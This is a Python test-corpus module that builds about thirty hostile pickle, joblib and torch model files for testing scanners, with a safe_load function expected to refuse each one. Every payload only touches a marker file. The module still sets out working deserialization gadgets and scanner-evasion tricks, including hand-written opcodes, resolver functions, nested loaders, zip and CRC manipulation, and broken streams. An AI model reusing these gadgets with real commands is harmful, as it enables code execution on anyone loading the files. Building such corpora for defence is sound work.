"""Harmless hostile model files, for teaching and testing scanners (never committed).

Each payload only creates an empty *marker* file — proof that code ran — and only when the file
is loaded naively with the loader named in ``naive``. Notebook 02 and the tests build them on
the fly; ``tests/unit/test_hostile_corpus.py`` proves each one really runs when loaded naively
(in a subprocess) and that ``safe_load`` refuses it with no marker created.
"""

from __future__ import annotations

import builtins
import functools
import importlib
import io
import os
import pickle
import pkgutil
import pydoc
import subprocess
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any


class Call:
    """Pickles as ``func(*args)``: the REDUCE gadget every attack below is made of."""

    def __init__(self, func: Any, *args: Any) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return self.func, self.args

    def __call__(self, *args: Any) -> Any:
        """Only so pickle accepts a Call as the callable of another Call (chains)."""
        raise RuntimeError("a Call is a pickling gadget, not meant to be called")


@dataclass(frozen=True)
class Hostile:
    name: str
    file: str
    naive: str  # pickle | pickle-loop | joblib | torch
    build: Callable[[Path], bytes]
    expected_global: str  # what safe_load must name (module.name, or a reason)


def _touch_code(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


def _exec(marker: Path) -> Call:
    return Call(builtins.exec, _touch_code(marker))


def _fitted_model() -> Any:
    from sklearn.linear_model import LogisticRegression

    return LogisticRegression().fit([[0.0], [1.0], [2.0], [3.0]], [0, 0, 1, 1])


def _joblib_bytes(obj: Any, compress: Any) -> bytes:
    import joblib

    buffer = io.BytesIO()
    joblib.dump(obj, buffer, compress=compress)
    return buffer.getvalue()


def _torch_zip(marker: Path) -> bytes:
    import torch

    buffer = io.BytesIO()
    torch.save({"weight": torch.zeros(2, 2), "hook": _exec(marker)}, buffer)
    return buffer.getvalue()


def _text(template: str) -> Callable[[Path], bytes]:
    return lambda marker: template.replace("CODE", _touch_code(marker)).encode()


def _inside_estimator(marker: Path) -> bytes:
    model = _fitted_model()
    model.callback_ = _exec(marker)  # a fitted, working estimator carrying a payload
    return pickle.dumps(model, protocol=5)


def _object_array_in_joblib(marker: Path) -> bytes:
    import numpy as np

    array = np.empty(2, dtype=object)
    array[0], array[1] = "fine", _exec(marker)
    return _joblib_bytes({"coef": np.arange(4.0), "meta": array}, 0)


def _repacked_zip(data: bytes, rename: Callable[[str], str]) -> bytes:
    """The zip in ``data`` with every member name passed through ``rename``."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            target.writestr(rename(info.filename), source.read(info))
    return out.getvalue()


def _torch_zip_case_changed(marker: Path) -> bytes:
    """torch's zip reader matches names case-insensitively: it still loads DATA.PKL."""
    return _repacked_zip(_torch_zip(marker), lambda n: n.replace("data.pkl", "DATA.PKL"))


def _torch_zip_bad_crc(marker: Path) -> bytes:
    """torch does not check CRC-32, Python's zipfile does (scanners built on it error out)."""
    data = _torch_zip(marker)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        info = next(i for i in archive.infolist() if i.filename.endswith("/data.pkl"))
    crc = info.CRC.to_bytes(4, "little")
    return data.replace(crc, (info.CRC ^ 0xFFFFFFFF).to_bytes(4, "little"))


def _nested(loader: str) -> Callable[[Path], bytes]:
    """A pickle whose only call is another loader, on a hostile file written beside it."""

    def build(marker: Path) -> bytes:
        inner = marker.with_name(marker.name + ".inner")
        if loader == "numpy":
            import numpy as np

            array = np.empty(1, dtype=object)
            array[0] = _exec(marker)
            with inner.open("wb") as handle:
                np.save(handle, array, allow_pickle=True)
            import numpy

            return pickle.dumps(Call(numpy.load, str(inner), None, True), protocol=4)
        import joblib

        inner.write_bytes(pickle.dumps(_exec(marker), protocol=4))
        return pickle.dumps(Call(joblib.load, str(inner)), protocol=4)

    return build


def _stack_global(module: str, name: str, argument: str) -> bytes:
    """Protocol 4 by hand: STACK_GLOBAL(module, name)(argument) — pickle walks dotted names."""
    parts = [b"\x80\x04"]
    for text in (module, name):
        parts.append(b"\x8c" + bytes([len(text)]) + text.encode())
    parts.append(b"\x93")
    encoded = argument.encode()
    parts.append(b"\x8c" + bytes([len(encoded)]) + encoded + b"\x85R.")
    return b"".join(parts)


def _pip_main(marker: Path) -> bytes:
    """pip.main with --log: pip writes its log file (the marker); --no-index, so no network."""
    import pip

    args = ["--log", str(marker), "--isolated", "--no-input", "--disable-pip-version-check"]
    args += ["install", "--no-index", "--no-deps", "--dry-run", "no-such-package-0"]
    return pickle.dumps(Call(pip.main, args), protocol=4)


# Protocol 0, written by hand: GLOBAL builtins.eval, MARK, UNICODE source, TUPLE, REDUCE, STOP.
_EVAL_TEXT = "cbuiltins\neval\n(V__import__('builtins').exec(\"CODE\")\ntR."
# INT spelled 0x1: pickle reads it with int(text, 0), pickletools with int(text) and stops
# (scanners built on pickletools.genops report a parse error, not the payload). POP, then exec.
_HEX_INT_TEXT = "I0x1\n0cbuiltins\nexec\n(VCODE\ntR."

CORPUS: tuple[Hostile, ...] = (
    Hostile(
        "reduce-os-system-p2",
        "a.pkl",
        "pickle",
        lambda m: pickle.dumps(Call(os.system, f"touch {m}"), protocol=2),
        "posix.system",
    ),
    Hostile(
        "reduce-exec-p4-stack-global",
        "b.pkl",
        "pickle",
        lambda m: pickle.dumps(_exec(m), protocol=4),
        "builtins.exec",
    ),
    Hostile(
        "reduce-exec-p5",
        "c.pickle",
        "pickle",
        lambda m: pickle.dumps(_exec(m), protocol=5),
        "builtins.exec",
    ),
    Hostile("protocol-0-text-eval", "d.pkl", "pickle", _text(_EVAL_TEXT), "builtins.eval"),
    Hostile("inst-opcode", "e.pkl", "pickle", _text("(VCODE\nibuiltins\nexec\n."), "builtins.exec"),
    Hostile("obj-opcode", "f.pkl", "pickle", _text("(cbuiltins\nexec\nVCODE\no."), "builtins.exec"),
    Hostile(
        "subprocess-call",
        "g.pkl",
        "pickle",
        lambda m: pickle.dumps(Call(subprocess.call, ["touch", str(m)]), protocol=4),
        "subprocess.call",
    ),
    Hostile(
        "import-module-getattr-chain",
        "h.pkl",
        "pickle",
        lambda m: pickle.dumps(
            Call(Call(getattr, Call(importlib.import_module, "os"), "system"), f"touch {m}"),
            protocol=4,
        ),
        "builtins.getattr",
    ),
    Hostile(
        "dunder-import-getattr",
        "i.pkl",
        "pickle",
        lambda m: pickle.dumps(
            Call(Call(getattr, Call(builtins.__import__, "os"), "system"), f"touch {m}"), protocol=2
        ),
        "builtins.getattr",
    ),
    Hostile(
        "functools-partial",
        "j.pkl",
        "pickle",
        lambda m: pickle.dumps(
            Call(Call(functools.partial, builtins.exec, _touch_code(m))), protocol=4
        ),
        "functools.partial",
    ),
    Hostile(
        "nested-pickle-loads",
        "k.pkl",
        "pickle",
        lambda m: pickle.dumps(Call(pickle.loads, pickle.dumps(_exec(m))), protocol=4),
        "_pickle.loads",
    ),
    Hostile(
        "payload-inside-fitted-estimator", "l.pkl", "pickle", _inside_estimator, "builtins.exec"
    ),
    Hostile(
        "joblib-plain",
        "m.joblib",
        "joblib",
        lambda m: _joblib_bytes({"model": _fitted_model(), "x": _exec(m)}, 0),
        "builtins.exec",
    ),
    Hostile(
        "joblib-zlib",
        "n.joblib",
        "joblib",
        lambda m: _joblib_bytes({"model": _fitted_model(), "x": _exec(m)}, 3),
        "builtins.exec",
    ),
    Hostile(
        "joblib-xz",
        "o.joblib.xz",
        "joblib",
        lambda m: _joblib_bytes({"x": _exec(m)}, ("xz", 3)),
        "builtins.exec",
    ),
    Hostile(
        "joblib-object-array-nested-pickle",
        "p.joblib",
        "joblib",
        _object_array_in_joblib,
        "builtins.exec",
    ),
    Hostile("torch-zip", "q.pt", "torch", _torch_zip, "builtins.exec"),
    Hostile(
        "trailing-pickle-after-stop",
        "r.pkl",
        "pickle-loop",
        lambda m: pickle.dumps({"ok": 1}) + pickle.dumps(_exec(m)),
        "builtins.exec",
    ),
    Hostile(
        "misleading-extension",
        "model.onnx",
        "pickle",
        lambda m: pickle.dumps(_exec(m), protocol=4),
        "builtins.exec",
    ),
    Hostile(
        "pickle-named-skops",
        "s.skops",
        "pickle",
        lambda m: pickle.dumps(Call(os.system, f"touch {m}"), protocol=0),
        "posix.system",
    ),
    # --- newer published bypass families -------------------------------------------------
    Hostile(
        "resolver-pydoc-locate",
        "t.pkl",
        "pickle",
        lambda m: pickle.dumps(Call(Call(pydoc.locate, "os.system"), f"touch {m}"), protocol=4),
        "pydoc.locate",
    ),
    Hostile(
        "resolver-pkgutil-resolve-name",
        "u.pkl",
        "pickle",
        lambda m: pickle.dumps(
            Call(Call(pkgutil.resolve_name, "os:system"), f"touch {m}"), protocol=4
        ),
        "pkgutil.resolve_name",
    ),
    Hostile("pip-main", "v.pkl", "pickle", _pip_main, "pip.main"),
    Hostile(
        "nullifai-broken-stream-after-payload",
        "w.pkl",
        "pickle",
        # the payload runs, then the stream breaks: naive loaders raise *after* the harm, and
        # scanners that give up on a broken stream report an error instead of the payload
        lambda m: pickle.dumps(_exec(m), protocol=2)[:-1] + b"\xff\x00broken",
        "builtins.exec",
    ),
    Hostile(
        "int-spelling-pickletools-rejects", "x.pkl", "pickle", _text(_HEX_INT_TEXT), "builtins.exec"
    ),
    Hostile(
        "three-pickles-payload-last",
        "y.pkl",
        "pickle-loop",
        lambda m: pickle.dumps({"w": 1}) + pickle.dumps([2], protocol=0) + pickle.dumps(_exec(m)),
        "builtins.exec",
    ),
    Hostile("zip-case-changed-member", "z.pt", "torch", _torch_zip_case_changed, "builtins.exec"),
    Hostile("zip-corrupted-crc", "aa.pt", "torch", _torch_zip_bad_crc, "corrupt zip member"),
    Hostile(
        "dotted-name-through-allowed-module",
        "ab.pkl",
        "pickle",
        lambda m: _stack_global("joblib.numpy_pickle", "os.system", f"touch {m}"),
        "joblib.numpy_pickle.os.system",
    ),
    Hostile(
        "nested-joblib-load", "ac.pkl", "pickle", _nested("joblib"), "joblib.numpy_pickle.load"
    ),
    Hostile("nested-numpy-load", "ad.pkl", "pickle", _nested("numpy"), "numpy.load"),
)


NAIVE_LOADERS = {
    "pickle": "import pickle, sys; pickle.load(open(sys.argv[1], 'rb'))",
    "pickle-loop": (
        "import pickle, sys\nf = open(sys.argv[1], 'rb')\n"
        "while True:\n    try: pickle.load(f)\n    except EOFError: break"
    ),
    "joblib": "import joblib, sys; joblib.load(sys.argv[1])",
    "torch": "import torch, sys; torch.load(sys.argv[1], weights_only=False)",
}


def build(entry: Hostile, directory: Path) -> tuple[Path, Path]:
    """Write ``entry`` into ``directory``; returns (file, marker it would create)."""
    marker = directory / f"{entry.name}.MARKER"
    path = directory / entry.file
    path.write_bytes(entry.build(marker))
    return path, marker


__all__ = ["CORPUS", "NAIVE_LOADERS", "Call", "Hostile", "build"]
